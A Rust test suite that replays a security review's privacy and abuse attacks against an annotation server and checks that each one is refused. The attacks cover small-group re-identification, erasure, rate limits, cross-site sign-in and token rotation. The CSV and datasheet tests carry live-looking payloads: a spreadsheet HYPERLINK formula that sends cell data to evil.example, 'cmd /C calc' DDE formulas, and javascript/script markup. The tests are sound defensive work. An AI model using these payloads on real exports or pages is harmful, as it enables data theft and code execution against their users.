//! The security review's attacks, each written as the attacker's requests, on SQLite and
//! PostgreSQL. Every test here failed on the server before the privacy and abuse fixes.

use std::collections::BTreeMap;
use std::time::{Duration, Instant};

use arbiter_server::release::{MERGED_POOLS, WITHHELD_POOLS};
use reqwest::StatusCode;
use serde_json::{Value, json};

use crate::helpers::*;

/// A project whose pool "women" is chosen by an identity answer.
fn gender_spec(patch: Value) -> Value {
    let mut s = spec(json!({
        "overlap_per_pool": 20,
        "questionnaire": [
            { "id": "gender", "text": "Your gender?", "options": ["woman", "man", "non-binary"] }
        ],
        "pools": [
            { "name": "women", "rule": { "question": "gender", "answer": "woman" } },
            { "name": "others" }
        ],
    }));
    if let (Some(b), Some(p)) = (s.as_object_mut(), patch.as_object()) {
        for (k, v) in p {
            b.insert(k.clone(), v.clone());
        }
    }
    s
}

/// Attack 1: a two-member identity pool read off the dashboard, the datasheet and the exports.
#[tokio::test]
async fn a_small_identity_pool_is_never_named_or_sized() {
    for db in databases().await {
        let app = spawn_app(&db).await;
        let p = app.project(gender_spec(json!({})), &items(4, &[])).await;
        let code = app.invite(p, None, 20).await;
        let mut raters = Vec::new();
        for i in 0..8 {
            let answer = if i < 2 { "woman" } else { "man" };
            let r = app.ready_rater(&code, json!({ "gender": answer })).await;
            r.label_next(json!("toxic")).await.unwrap();
            raters.push(r);
        }
        let (_, dash) = app.admin_get(&format!("/api/projects/{p}/dashboard")).await;
        let pools = dash["pools"].as_array().unwrap();
        assert_eq!(
            pools.len(),
            1,
            "women (2) is merged with others (6): {dash}"
        );
        assert_eq!(pools[0]["name"], MERGED_POOLS);
        assert_eq!(pools[0]["raters"], 8);
        assert!(!dash.to_string().contains("\"women\""), "{dash}");
        for format in ["jsonl", "csv"] {
            let export = text_of(&app, &format!("/api/projects/{p}/export?format={format}")).await;
            assert!(!export.contains("women"), "{format}: {export}");
            assert!(export.contains(MERGED_POOLS), "{format}: {export}");
        }
        let sheet = text_of(&app, &format!("/api/projects/{p}/datasheet?format=md")).await;
        assert!(!sheet.contains("women 2"), "{sheet}");
        assert!(
            sheet.contains("Pool sizes: (pools under k, merged) 8"),
            "{sheet}"
        );
        let html = text_of(&app, &format!("/admin/projects/{p}")).await;
        let progress = html
            .split("id=\"progress-table\"")
            .nth(1)
            .and_then(|t| t.split("</table>").next())
            .unwrap();
        assert!(
            !progress.contains("women") && progress.contains("merged"),
            "{progress}"
        );
        let predictability = html
            .split("id=\"predictability\"")
            .nth(1)
            .and_then(|t| t.split("</section>").next())
            .unwrap();
        assert!(
            !predictability.contains("women") && predictability.contains("Not computed"),
            "{predictability}"
        );
        // Three more women: the pool reaches k and is named, with its size.
        for _ in 0..3 {
            app.ready_rater(&code, json!({ "gender": "woman" })).await;
        }
        let (_, dash) = app.admin_get(&format!("/api/projects/{p}/dashboard")).await;
        let names: Vec<&str> = dash["pools"]
            .as_array()
            .unwrap()
            .iter()
            .map(|p| p["name"].as_str().unwrap())
            .collect();
        assert_eq!(names, ["women", "others"], "{dash}");
    }
}

/// Published numbers of a demographics answer, keyed for comparison across releases.
fn published(demo: &Value) -> BTreeMap<String, i64> {
    let mut out = BTreeMap::new();
    if let Some(n) = demo["raters"].as_i64() {
        out.insert("raters".into(), n);
    }
    for q in demo["questions"].as_array().unwrap() {
        let id = q["question"].as_str().unwrap();
        for (a, c) in q["groups"].as_object().unwrap() {
            out.insert(format!("{id}/{a}"), c.as_i64().unwrap());
        }
        if let Some(m) = q["merged_small_groups"].as_i64() {
            out.insert(format!("{id}/(merged)"), m);
        }
    }
    out
}

/// Attack 2: read the demographics, let one rater withdraw (or join), read again, subtract.
#[tokio::test]
async fn comparing_releases_never_isolates_fewer_than_k() {
    for db in databases().await {
        let app = spawn_app(&db).await;
        // Gender chooses no pool here, so it is released as counts.
        let p = app
            .project(gender_spec(json!({ "pools": [] })), &items(2, &[]))
            .await;
        let code = app.invite(p, None, 40).await;
        let mut men = Vec::new();
        for _ in 0..5 {
            men.push(app.ready_rater(&code, json!({ "gender": "man" })).await);
        }
        for _ in 0..7 {
            app.ready_rater(&code, json!({ "gender": "woman" })).await;
        }
        let path = format!("/api/projects/{p}/demographics");
        let mut seen = vec![app.admin_get(&path).await.1];
        assert_eq!(
            published(&seen[0]).get("gender/man"),
            Some(&5),
            "{}",
            seen[0]
        );
        // One man withdraws: live counts would now read {} with 11 merged, naming him.
        let leaver = men.pop().unwrap();
        assert_eq!(
            leaver.post("/api/withdraw", json!({})).await.0,
            StatusCode::OK
        );
        seen.push(app.admin_get(&path).await.1);
        assert_eq!(seen[1], seen[0], "one withdrawal does not move the release");
        // Joins one at a time, each followed by a read. A new release comes out only once
        // every changed number has moved by at least k against every earlier release: here
        // when "man" is back to 10 and "woman" at 12.
        let mut joins: Vec<&str> = ["man", "woman", "non-binary"].repeat(5);
        joins.push("man");
        for answer in joins {
            app.ready_rater(&code, json!({ "gender": answer })).await;
            seen.push(app.admin_get(&path).await.1);
        }
        let releases: std::collections::BTreeSet<i64> = seen
            .iter()
            .map(|d| d["release"].as_i64().unwrap())
            .collect();
        assert!(releases.len() >= 2, "{seen:?}");
        // The attacker's arithmetic on every pair: the raters, each answer shown in both, and
        // every other answer together (total minus the answers shown in both).
        for (i, a) in seen.iter().enumerate() {
            for b in &seen[i + 1..] {
                let (a, b) = (published(a), published(b));
                for v in a.values().chain(b.values()) {
                    assert!(*v >= 5, "a published count under k: {a:?} {b:?}");
                }
                let mut rest = (a["raters"], b["raters"]);
                for (key, x) in &a {
                    if key == "raters" || key.ends_with("(merged)") {
                        continue;
                    }
                    if let Some(y) = b.get(key) {
                        let d = (x - y).abs();
                        assert!(d == 0 || d >= 5, "{key}: {x} vs {y} isolates {d} raters");
                        rest = (rest.0 - x, rest.1 - y);
                    }
                }
                for d in [(a["raters"] - b["raters"]).abs(), (rest.0 - rest.1).abs()] {
                    assert!(d == 0 || d >= 5, "{a:?} vs {b:?} isolates {d} raters");
                }
            }
        }
    }
}

/// Attack 3: a rater who signed out (or whose session expired) can still withdraw; the admin
/// can erase a rater on request.
#[tokio::test]
async fn withdrawal_works_without_a_session_and_by_the_admin() {
    for db in databases().await {
        let app = spawn_app(&db).await;
        let p = app.project(gender_spec(json!({})), &items(3, &[])).await;
        let code = app.invite(p, None, 5).await;
        let a = app.ready_rater(&code, json!({ "gender": "man" })).await;
        let b = app.ready_rater(&code, json!({ "gender": "man" })).await;
        a.label_next(json!("toxic")).await.unwrap();
        b.label_next(json!("toxic")).await.unwrap();
        let withdrawal = a.withdrawal_code.clone().expect("code at consent");
        assert_eq!(a.post("/api/logout", json!({})).await.0, StatusCode::OK);
        assert_eq!(a.get("/api/me").await.0, StatusCode::UNAUTHORIZED);
        // A wrong code (its last digit changed) is refused and erases nothing.
        let last = if withdrawal.ends_with('0') { "1" } else { "0" };
        let wrong = format!("{}{last}", &withdrawal[..withdrawal.len() - 1]);
        let (s, _) = app
            .call(
                reqwest::Method::POST,
                "/api/withdraw-with-code",
                &Auth::None,
                Some(json!({ "code": wrong })),
            )
            .await;
        assert_eq!(s, StatusCode::FORBIDDEN);
        let (s, body) = app
            .call(
                reqwest::Method::POST,
                "/api/withdraw-with-code",
                &Auth::None,
                Some(json!({ "code": withdrawal })),
            )
            .await;
        assert_eq!(s, StatusCode::OK, "{body}");
        assert!(
            body["owed_reference"]
                .as_str()
                .unwrap()
                .starts_with("owed-")
        );
        // Used once: the rater is gone.
        let (s, _) = app
            .call(
                reqwest::Method::POST,
                "/api/withdraw-with-code",
                &Auth::None,
                Some(json!({ "code": withdrawal })),
            )
            .await;
        assert_eq!(s, StatusCode::FORBIDDEN);
        // The admin erases b by pseudonym (a request that came by e-mail).
        let (s, body) = app
            .admin_post(
                &format!("/api/projects/{p}/raters/{}/erase", b.pseudonym),
                json!({}),
            )
            .await;
        assert_eq!(s, StatusCode::OK, "{body}");
        assert_eq!(b.get("/api/me").await.0, StatusCode::UNAUTHORIZED);
        let export = text_of(&app, &format!("/api/projects/{p}/export?format=jsonl")).await;
        assert!(export.is_empty(), "{export}");
        for pseudonym in [&a.pseudonym, &b.pseudonym] {
            let n = sql_count(
                &db,
                &format!("SELECT COUNT(*) FROM raters WHERE pseudonym = '{pseudonym}'"),
            )
            .await;
            assert_eq!(n, 0, "the rater row itself is erased");
        }
        assert_eq!(sql_count(&db, "SELECT COUNT(*) FROM annotations").await, 0);
        assert_eq!(sql_count(&db, "SELECT COUNT(*) FROM answers").await, 0);
        let (_, dash) = app.admin_get(&format!("/api/projects/{p}/dashboard")).await;
        assert_eq!(dash["withdrawn"], 2);
        let owed: f64 = dash["ledger"]
            .as_array()
            .unwrap()
            .iter()
            .map(|l| l["earned"].as_f64().unwrap())
            .sum();
        assert!(
            (owed - 0.5).abs() < 1e-9,
            "two labels at 0.25 stay owed: {dash}"
        );
    }
}

/// Attack 4: open the SQLite file and its WAL as bytes after a withdrawal and look for the
/// withdrawn rater's words. (PostgreSQL: the rows are gone, checked above; what VACUUM does
/// with the dead tuples is documented in the README.)
#[tokio::test]
async fn erased_text_leaves_no_bytes_in_the_sqlite_files() {
    let db = databases().await.remove(0);
    let path = db.trim_start_matches("sqlite:").to_string();
    let app = spawn_app(&db).await;
    let p = app
        .project(
            gender_spec(json!({ "overlap_per_pool": 5 })),
            &items(6, &[]),
        )
        .await;
    let code = app.invite(p, None, 5).await;
    let stay = app.ready_rater(&code, json!({ "gender": "man" })).await;
    let leave = app.ready_rater(&code, json!({ "gender": "woman" })).await;
    let secret = "my-private-rationale-7f3a9c";
    for _ in 0..4 {
        let (_, n) = leave.get("/api/next").await;
        let (s, _) = leave
            .post(
                "/api/annotations",
                json!({ "item_id": n["item"]["id"], "label": "toxic", "rationale": format!("{secret} {}", "x".repeat(300)) }),
            )
            .await;
        assert_eq!(s, StatusCode::CREATED);
    }
    stay.label_next(json!("toxic")).await.unwrap();
    let files = |path: &str| -> Vec<u8> {
        let mut all = Vec::new();
        for suffix in ["", "-wal"] {
            if let Ok(b) = std::fs::read(format!("{path}{suffix}")) {
                all.extend(b);
            }
        }
        all
    };
    let contains =
        |hay: &[u8], needle: &str| hay.windows(needle.len()).any(|w| w == needle.as_bytes());
    assert!(
        contains(&files(&path), secret),
        "the rationale is stored before withdrawal"
    );
    assert_eq!(
        leave.post("/api/withdraw", json!({})).await.0,
        StatusCode::OK
    );
    let bytes = files(&path);
    assert!(
        !contains(&bytes, secret),
        "withdrawn rationale found in the database or WAL"
    );
    assert!(
        !contains(&bytes, &leave.pseudonym),
        "withdrawn pseudonym found"
    );
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        let mode = std::fs::metadata(&path).unwrap().permissions().mode() & 0o777;
        assert_eq!(mode, 0o600, "the database file is the owner's only");
    }
}

/// Attack 5: invitation guessing and hash-based denial of service from one address.
#[tokio::test]
async fn guessing_is_limited_per_address_and_never_floods_the_hasher() {
    for db in databases().await {
        let app = spawn_app(&db).await;
        let p = app.project(gender_spec(json!({})), &items(1, &[])).await;
        let code = app.invite(p, None, 1).await;
        let id = code.split('-').next().unwrap().to_string();
        let started = Instant::now();
        let mut refused = 0;
        let mut limited = 0;
        let mut tasks = Vec::new();
        for i in 0..160 {
            let app = app.clone_client();
            let guess = format!("{id}-{:032x}", i * 7919);
            tasks.push(tokio::spawn(async move {
                // A fresh made-up cookie and bearer value on every guess buys nothing.
                let res = app
                    .client
                    .post(app.url("/api/join"))
                    .header("cookie", format!("arbiter_session=fake{i}"))
                    .json(&json!({ "code": guess }))
                    .send()
                    .await
                    .unwrap();
                res.status()
            }));
        }
        for t in tasks {
            match t.await.unwrap() {
                StatusCode::FORBIDDEN => refused += 1,
                StatusCode::TOO_MANY_REQUESTS => limited += 1,
                other => panic!("unexpected {other}"),
            }
        }
        assert!(refused <= 45, "{refused} guesses were checked");
        assert_eq!(refused + limited, 160);
        assert!(
            started.elapsed() < Duration::from_secs(10),
            "guesses are refused cheaply: {:?}",
            started.elapsed()
        );
        // Wrong admin tokens cost a SHA-256 each, not a 19 MiB hash.
        let started = Instant::now();
        let mut tasks = Vec::new();
        for i in 0..160 {
            let app = app.clone_client();
            tasks.push(tokio::spawn(async move {
                app.call(
                    reqwest::Method::GET,
                    "/api/projects",
                    &Auth::Bearer(format!("wrong-admin-token-{i:08}")),
                    None,
                )
                .await
                .0
            }));
        }
        for t in tasks {
            assert_eq!(t.await.unwrap(), StatusCode::UNAUTHORIZED);
        }
        assert!(
            started.elapsed() < Duration::from_secs(5),
            "{:?}",
            started.elapsed()
        );
    }
}

/// The limit of the general rate limiter follows the address, not the cookie.
#[tokio::test]
async fn a_made_up_cookie_buys_no_fresh_allowance() {
    let db = databases().await.remove(0);
    let app = slow_limits(&db, 10.0).await;
    let mut limited = 0;
    for i in 0..40 {
        let res = app
            .client
            .get(app.url("/healthz"))
            .header("cookie", format!("arbiter_session=random{i}"))
            .header("authorization", format!("Bearer random{i}"))
            .send()
            .await
            .unwrap();
        if res.status() == StatusCode::TOO_MANY_REQUESTS {
            limited += 1;
        }
    }
    assert!(limited >= 25, "only {limited} of 40 limited");
}

/// Attack 6: a rationale written as a spreadsheet formula.
#[tokio::test]
async fn csv_export_neutralises_formulas() {
    for db in databases().await {
        let app = spawn_app(&db).await;
        let p = app.project(gender_spec(json!({})), &items(4, &[])).await;
        let code = app.invite(p, None, 1).await;
        let r = app.ready_rater(&code, json!({})).await;
        let payloads = [
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "+1+cmd|' /C calc'!A0",
            "-2+3",
        ];
        for payload in payloads {
            let (_, n) = r.get("/api/next").await;
            let (s, _) = r
                .post(
                    "/api/annotations",
                    json!({ "item_id": n["item"]["id"], "label": "toxic", "rationale": payload }),
                )
                .await;
            assert_eq!(s, StatusCode::CREATED);
        }
        let csv = text_of(&app, &format!("/api/projects/{p}/export?format=csv")).await;
        let mut reader = csv::Reader::from_reader(csv.as_bytes());
        let rationales: Vec<String> = reader
            .records()
            .map(|r| r.unwrap()[4].to_string())
            .collect();
        assert_eq!(rationales.len(), 4);
        for (cell, payload) in rationales.iter().zip(payloads) {
            assert_eq!(cell, &format!("'{payload}"), "formula left live");
        }
        // JSONL keeps the rater's words exactly.
        let jsonl = text_of(&app, &format!("/api/projects/{p}/export?format=jsonl")).await;
        assert!(jsonl.contains("\"rationale\":\"=HYPERLINK"));
    }
}

/// Attack 7: an admin cookie from before the token was rotated.
#[tokio::test]
async fn rotating_the_admin_token_ends_admin_sessions() {
    for db in databases().await {
        let app = spawn_app(&db).await;
        let cookie = admin_cookie(&app).await;
        let get = |app: &TestApp, cookie: String| {
            let req = app
                .client
                .get(app.url("/api/projects"))
                .header("cookie", cookie);
            async move { req.send().await.unwrap().status() }
        };
        assert_eq!(get(&app, cookie.clone()).await, StatusCode::OK);
        // The same database, restarted with a new token.
        let rotated =
            spawn_app_with(&db, |c| c.admin_token = "a-brand-new-admin-token-42".into()).await;
        assert_eq!(
            get(&rotated, cookie.clone()).await,
            StatusCode::UNAUTHORIZED
        );
        // Restarted with the old token again, the session is valid again (it was never the
        // token that was stored, only its salted hash).
        let again = spawn_app(&db).await;
        assert_eq!(get(&again, cookie).await, StatusCode::OK);
    }
}

/// Attack 8: a cross-site form that signs the victim's browser in as the attacker's rater.
#[tokio::test]
async fn cross_site_sign_in_is_refused() {
    for db in databases().await {
        let app = spawn_app(&db).await;
        let p = app.project(gender_spec(json!({})), &items(1, &[])).await;
        let code = app.invite(p, None, 5).await;
        for (name, value) in [
            ("origin", "http://evil.example"),
            ("sec-fetch-site", "cross-site"),
            ("origin", "null"),
        ] {
            for path in ["/join", "/api/join"] {
                let req = app.client.post(app.url(path)).header(name, value);
                let req = if path == "/join" {
                    req.form(&[("code", code.as_str())])
                } else {
                    req.json(&json!({ "code": code }))
                };
                let res = req.send().await.unwrap();
                assert_eq!(
                    res.status(),
                    StatusCode::FORBIDDEN,
                    "{path} with {name}: {value}"
                );
                assert!(res.headers().get("set-cookie").is_none());
            }
            let res = app
                .client
                .post(app.url("/admin/login"))
                .header(name, value)
                .form(&[("token", ADMIN_TOKEN)])
                .send()
                .await
                .unwrap();
            assert_eq!(res.status(), StatusCode::FORBIDDEN);
        }
        // The same form from the server's own page works.
        let res = app
            .client
            .post(app.url("/join"))
            .header("origin", format!("http://{}", app.addr))
            .header("sec-fetch-site", "same-origin")
            .form(&[("code", code.as_str())])
            .send()
            .await
            .unwrap();
        assert_eq!(res.status(), StatusCode::SEE_OTHER);
    }
}

/// Attack 9: one rater prefetching the whole overlap; invitations that never lapse.
#[tokio::test]
async fn hoarding_and_stale_invitations_are_refused() {
    for db in databases().await {
        let app = spawn_app(&db).await;
        let p = app
            .project(
                gender_spec(json!({ "overlap_per_pool": 1 })),
                &items(60, &[]),
            )
            .await;
        let code = app.invite(p, None, 5).await;
        let r = app.ready_rater(&code, json!({})).await;
        let (_, batch) = r.get("/api/next?prefetch=50").await;
        assert_eq!(
            batch["items"].as_array().unwrap().len(),
            10,
            "max_open_claims"
        );
        let (_, again) = r.get("/api/next?prefetch=50").await;
        assert_eq!(
            again["items"].as_array().unwrap().len(),
            10,
            "the same ten, no more"
        );
        // Use limits, expiry and revocation.
        let (s, _) = app
            .admin_post(
                &format!("/api/projects/{p}/invitations"),
                json!({ "max_uses": 100_000 }),
            )
            .await;
        assert_eq!(s, StatusCode::BAD_REQUEST);
        let expiring = app.invite(p, None, 5).await;
        let id = expiring.split('-').next().unwrap();
        sql(
            &db,
            &format!("UPDATE invitations SET expires_at = 1 WHERE id = {id}"),
        )
        .await;
        let join = |code: String| {
            let app = app.clone_client();
            async move {
                app.call(
                    reqwest::Method::POST,
                    "/api/join",
                    &Auth::None,
                    Some(json!({ "code": code })),
                )
                .await
                .0
            }
        };
        assert_eq!(join(expiring).await, StatusCode::FORBIDDEN, "expired");
        let revoked = app.invite(p, None, 5).await;
        let id: i64 = revoked.split('-').next().unwrap().parse().unwrap();
        let (s, _) = app
            .admin_post(
                &format!("/api/projects/{p}/invitations/{id}/revoke"),
                json!({}),
            )
            .await;
        assert_eq!(s, StatusCode::OK);
        assert_eq!(join(revoked).await, StatusCode::FORBIDDEN, "revoked");
        let (_, list) = app
            .admin_get(&format!("/api/projects/{p}/invitations"))
            .await;
        assert!(list.to_string().contains("\"revoked\":true"), "{list}");
        assert!(
            !list.to_string().contains(&code[code.len() - 8..]),
            "no secret listed"
        );
    }
}

/// Low: the datasheet's Markdown carries the project's words as text, never as markup.
#[tokio::test]
async fn datasheet_markdown_is_escaped() {
    for db in databases().await {
        let app = spawn_app(&db).await;
        let p = app
            .project(
                gender_spec(json!({
                    "name": "pilot](javascript:alert(1)) <script>x</script>",
                    "datasheet_notes": { "1": "# Heading\n[phish](http://evil.example) ![img](http://evil.example/i.png)" }
                })),
                &items(1, &[]),
            )
            .await;
        let sheet = text_of(&app, &format!("/api/projects/{p}/datasheet?format=md")).await;
        for bad in ["pilot](", "<script>", "\n# Heading", "[phish](", "![img]("] {
            assert!(!sheet.contains(bad), "{bad} in {sheet}");
        }
        assert!(sheet.contains("\\# Heading"));
    }
}

/// Low: invitation ids cannot be told apart by timing, and expired sessions are purged.
#[tokio::test]
async fn invitation_refusals_take_the_same_time_and_sessions_are_purged() {
    for db in databases().await {
        let app = spawn_app(&db).await;
        let p = app.project(gender_spec(json!({})), &items(1, &[])).await;
        let code = app.invite(p, None, 1).await;
        let id = code.split('-').next().unwrap().to_string();
        let time = |code: String| {
            let app = app.clone_client();
            async move {
                let t = Instant::now();
                let s = app
                    .call(
                        reqwest::Method::POST,
                        "/api/join",
                        &Auth::None,
                        Some(json!({ "code": code })),
                    )
                    .await
                    .0;
                assert_eq!(s, StatusCode::FORBIDDEN);
                t.elapsed()
            }
        };
        let mut known = Vec::new();
        let mut unknown = Vec::new();
        for i in 0..9 {
            // A wrong secret for the real id (its prefix wrong too, as almost every guess's).
            known.push(time(format!("{id}-zz{i:030}")).await);
            unknown.push(time(format!("99999{i}-zz{i:030}")).await);
        }
        known.sort();
        unknown.sort();
        let (k, u) = (known[4], unknown[4]);
        assert!(
            k < Duration::from_millis(25) && u < Duration::from_millis(25),
            "no memory-hard check on a wrong prefix: known id {k:?}, unknown id {u:?}"
        );
        // Purging.
        let r = app
            .ready_rater(&app.invite(p, None, 1).await, json!({}))
            .await;
        sql(&db, "UPDATE sessions SET expires_at = 1").await;
        let state = app.state.as_ref().unwrap();
        assert!(
            state
                .db
                .purge_sessions(arbiter_server::db::now_ms())
                .await
                .unwrap()
                >= 1
        );
        assert_eq!(sql_count(&db, "SELECT COUNT(*) FROM sessions").await, 0);
        assert_eq!(r.get("/api/me").await.0, StatusCode::UNAUTHORIZED);
    }
}

/// Pools under k stay merged in the by-pool views too.
#[tokio::test]
async fn withheld_pools_when_all_raters_are_under_k() {
    let db = databases().await.remove(0);
    let app = spawn_app(&db).await;
    let p = app.project(gender_spec(json!({})), &items(2, &[])).await;
    let code = app.invite(p, None, 3).await;
    for g in ["woman", "man", "man"] {
        app.ready_rater(&code, json!({ "gender": g }))
            .await
            .label_next(json!("toxic"))
            .await;
    }
    let (_, dash) = app.admin_get(&format!("/api/projects/{p}/dashboard")).await;
    assert_eq!(dash["pools"][0]["name"], WITHHELD_POOLS);
    let (_, demo) = app
        .admin_get(&format!("/api/projects/{p}/demographics"))
        .await;
    assert!(
        demo["raters"].is_null() && demo["questions"][0]["withheld"] == true,
        "{demo}"
    );
}

/// Low: connections that send their headers slowly are closed, and a cap bounds how many
/// connections are served at once (later ones wait in the backlog, then are served).
#[tokio::test]
async fn slow_headers_are_cut_off_and_connections_are_capped() {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let db = databases().await.remove(0);
    let app = spawn_app_with(&db, |c| {
        c.request_timeout = Duration::from_secs(1);
        c.max_connections = 2;
    })
    .await;
    let started = Instant::now();
    let mut slow = Vec::new();
    for _ in 0..2 {
        let mut s = tokio::net::TcpStream::connect(app.addr).await.unwrap();
        s.write_all(b"GET /healthz HTTP/1.1\r\nHost: x\r\n")
            .await
            .unwrap();
        slow.push(s);
    }
    // Both slots are held by the slow clients: a normal request waits until they are cut.
    let res = app.client.get(app.url("/healthz")).send().await.unwrap();
    assert_eq!(res.status(), StatusCode::OK);
    let waited = started.elapsed();
    assert!(
        waited >= Duration::from_millis(900),
        "the cap let a third connection in at once ({waited:?})"
    );
    for mut s in slow {
        let mut buf = Vec::new();
        let read = tokio::time::timeout(Duration::from_secs(5), s.read_to_end(&mut buf)).await;
        assert!(read.is_ok(), "a slow-headers connection was left open");
    }
    assert!(
        started.elapsed() < Duration::from_secs(5),
        "{:?}",
        started.elapsed()
    );
}

/// A verified rater spreading requests over several addresses still has one allowance.
#[tokio::test]
async fn one_rater_has_one_allowance_across_addresses() {
    let db = databases().await.remove(0);
    let app = slow_limits(&db, 12.0).await;
    let p = app.project(gender_spec(json!({})), &items(1, &[])).await;
    let code = app.invite(p, None, 1).await;
    let r = app.join(&code).await;
    let mut limited = 0;
    for i in 0..30u8 {
        let local: std::net::IpAddr = format!("127.0.0.{}", 2 + i % 3).parse().unwrap();
        let client = http_client_builder().local_address(local).build().unwrap();
        let res = client
            .get(app.url("/api/me"))
            .header("cookie", format!("arbiter_session={}", r.cookie))
            .send()
            .await
            .unwrap();
        if res.status() == StatusCode::TOO_MANY_REQUESTS {
            limited += 1;
        }
    }
    // Three addresses would allow 36 between them; the rater's own bucket allows about 12.
    assert!(limited >= 15, "only {limited} of 30 limited");
}

/// A server allowing one request a second per client after a burst of `burst`.
async fn slow_limits(db: &str, burst: f64) -> TestApp {
    spawn_app_with(db, |c| {
        c.rate_per_second = 1.0;
        c.rate_burst = burst;
    })
    .await
}

/// A question whose answers were released as counts cannot later start choosing a pool (which
/// would release the same answers per rater too).
#[tokio::test]
async fn a_counted_question_cannot_start_choosing_pools() {
    for db in databases().await {
        let app = spawn_app(&db).await;
        let p = app
            .project(gender_spec(json!({ "pools": [] })), &items(1, &[]))
            .await;
        let code = app.invite(p, None, 6).await;
        for _ in 0..6 {
            app.ready_rater(&code, json!({ "gender": "man" })).await;
        }
        let (_, demo) = app
            .admin_get(&format!("/api/projects/{p}/demographics"))
            .await;
        assert_eq!(demo["questions"][0]["groups"]["man"], 6, "{demo}");
        let (s, body) = app
            .admin_post(
                &format!("/api/projects/{p}/pools"),
                json!({ "name": "men", "rule": { "question": "gender", "answer": "man" } }),
            )
            .await;
        assert_eq!(s, StatusCode::CONFLICT, "{body}");
        let (s, _) = app
            .admin_post(
                &format!("/api/projects/{p}/pools"),
                json!({ "name": "experts" }),
            )
            .await;
        assert_eq!(s, StatusCode::CREATED, "an invitation pool is fine");
    }
}
